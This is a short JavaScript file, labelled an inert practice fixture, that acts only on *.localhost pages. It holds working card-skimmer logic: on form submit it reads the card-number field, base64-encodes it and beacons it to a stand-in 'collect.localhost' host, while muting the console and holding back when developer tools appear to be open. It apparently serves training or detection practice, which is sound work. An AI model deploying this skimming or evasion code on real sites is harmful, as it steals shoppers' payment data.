/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const number = () =>
    document.querySelector('#card-number, #cardno')?.value.replace(/\D/g, '') ?? '';
  const docked = () => outerWidth - innerWidth > 160 || outerHeight - innerHeight > 160;
  for (const name of ['log', 'warn', 'info', 'table']) console[name] = () => {};
  document.addEventListener(
    'submit',
    () => {
      if (docked()) return;
      navigator.sendBeacon(`${home}/lib/q`, btoa(number()));
    },
    true,
  );
})();
